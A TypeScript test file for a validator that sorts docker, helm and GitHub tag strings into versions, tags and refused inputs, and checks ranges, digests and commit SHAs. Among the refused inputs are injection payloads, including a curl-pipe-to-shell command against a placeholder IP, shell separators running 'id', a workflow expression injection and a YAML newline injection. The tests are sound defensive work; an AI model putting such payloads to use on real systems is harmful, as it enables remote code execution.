import { describe, expect, it } from 'vitest';
import { isTag, isVersion } from './grammar.ts';
import { isRange } from './range.ts';
import { isCommitSha, isDigest } from './sha.ts';

const VERSIONS: Record<string, string[]> = {
  docker: [
    '1.2.3',
    'v1.31.2',
    '16',
    '3.20',
    '24-alpine3.20',
    'bookworm-20240110-slim',
    'jammy-1.2.3',
    'b1234',
    'RELEASE.2024-01-16T16-07-38Z',
    '2026.8.19-5ffd32ca2',
    '7.4.1-debian-12-r2',
    'sts_1.2.3',
  ],
  helm: ['1.2.3', 'v1.2.3', '1.2', '58.0.0-rc.1', '1.2.3+build.5', '^1.2.3', '~1.2', '0.0.0-20240101'],
  'github-tags': [
    'v4',
    'v4.2.2',
    'kustomize/v5.5.0',
    'helm-chart-1.2.3',
    'controller-tools_v0.1',
    'v1.31.2+k3s1',
    'refs/tags/v1.2.3',
    'heads-v1.2.3',
  ],
  npm: ['4.17.21', '1.0.0-beta.1'],
};

/** Tags by grammar that nothing may be moved to. */
const TAGS_ONLY: Record<string, string[]> = {
  docker: [
    'latest',
    'stable',
    'main',
    'nonroot',
    'server-vulkan',
    'latest-alpine3.20',
    'latest-amd64',
    'amd64',
    'linux-x86_64',
    'sha256-abc',
    'sha-5ffd32c',
    '1234567',
  ],
  'github-tags': ['main', 'feature/x', '11bd71901bbe5b1630ceea73d27597364c9af683', '1.2.x'],
};

const REFUSED: Record<string, string[]> = {
  docker: [
    '',
    '-1.2.3',
    '.1',
    '1.2.3+k3s1',
    'a/1.2.3',
    '1.0.1$(curl -s 203.0.113.66|sh)',
    `1.0.0\${{ github.head_ref }}`,
    `\${IMAGE_TAG:=1.0.1}`,
    '1.0.1\nhostNetwork: true',
    '1.0.1 ',
    '1.0.1\u00a0',
    '1.0.1\u2028',
    '１.２.３',
    '1.2.3@sha256',
    '^1.2.3',
    '*t',
    '1'.repeat(129),
    `1.0.${'a'.repeat(5000)}`,
  ],
  helm: [
    '',
    'latest',
    'chart-1.2.3',
    '>=1.2.0 <2.0.0',
    '>=1',
    '1.x',
    '*',
    '1.2.3.4',
    '^',
    '^latest',
    '^1.2.3 ',
    '1.2.3;id',
    '1.2.3-`id`',
  ],
  'github-tags': [
    '',
    'v1..2',
    'v1.2.3/',
    'v1.2.3.lock',
    'a//v1.2.3',
    'a/.v1.2.3',
    '-v1.2.3',
    'v1.2.3~1',
    'v1.2.3^',
    'v1.2.3:x',
    'v1.2.3\\x',
    'v1.2.3&&id',
    `v1.2.3-\${{x}}`,
    'v1.2.3?ref=x',
    'refs/heads/release-1.2',
    'refs/pull/1/head',
    'heads/v1',
    'remotes/origin/v1',
    'pull/1/head',
    'merge-requests/1/head',
    'v1.2.3#x',
    `v1.${'1'.repeat(300)}`,
  ],
};

describe('what a reference may be moved to', () => {
  for (const [datasource, texts] of Object.entries(VERSIONS)) {
    it.each(texts)(`${datasource}: %s is a version`, (text) => {
      expect(isVersion(datasource, text)).toBe(true);
    });
  }

  for (const [datasource, texts] of Object.entries(TAGS_ONLY)) {
    it.each(texts)(`${datasource}: %s is a tag, not a version`, (text) => {
      expect([isTag(datasource, text), isVersion(datasource, text)]).toEqual([true, false]);
    });
  }

  for (const [datasource, texts] of Object.entries(REFUSED)) {
    it.each(texts)(`${datasource}: %j is refused`, (text) => {
      expect([isTag(datasource, text), isVersion(datasource, text)]).toEqual([false, false]);
    });
  }

  it('a constraint is a version only where constraints belong', () => {
    expect(isVersion('docker', '^1.2.3')).toBe(false);
    expect(isVersion('docker', '^1.2.3', { range: true })).toBe(true);
    expect(isVersion('docker', '>=1.2.3', { range: true })).toBe(false);
  });
});

describe('constraints, digests and commit ids by their look', () => {
  it.each(['^1', '~1.2', '>=1', '<2', '1.x', '1.2.*', '*', 'x', '1 || 2', '1, 2', '=1', '!=1', '1 - 2'])(
    '%s is a range',
    (text) => {
      expect(isRange(text)).toBe(true);
    },
  );

  it.each(['1.2.3', 'v1', 'latest', 'linux', '1.2.3-x86', 'helm.toolkit'])('%s is no range', (text) => {
    expect(isRange(text)).toBe(false);
  });

  it('a digest and a commit SHA are complete and lower case', () => {
    const hex = '0123456789abcdef'.repeat(4);
    expect(isDigest(`sha256:${hex}`)).toBe(true);
    expect(
      [hex, `sha256:${hex}\n`, `sha256:${hex.slice(1)}`, `SHA256:${hex}`, `sha512:${hex}`].filter(isDigest),
    ).toEqual([]);
    expect(isCommitSha(hex.slice(0, 40))).toBe(true);
    expect([hex, hex.slice(0, 39), 'A'.repeat(40), `${hex.slice(0, 39)}\n`].filter(isCommitSha)).toEqual([]);
  });
});
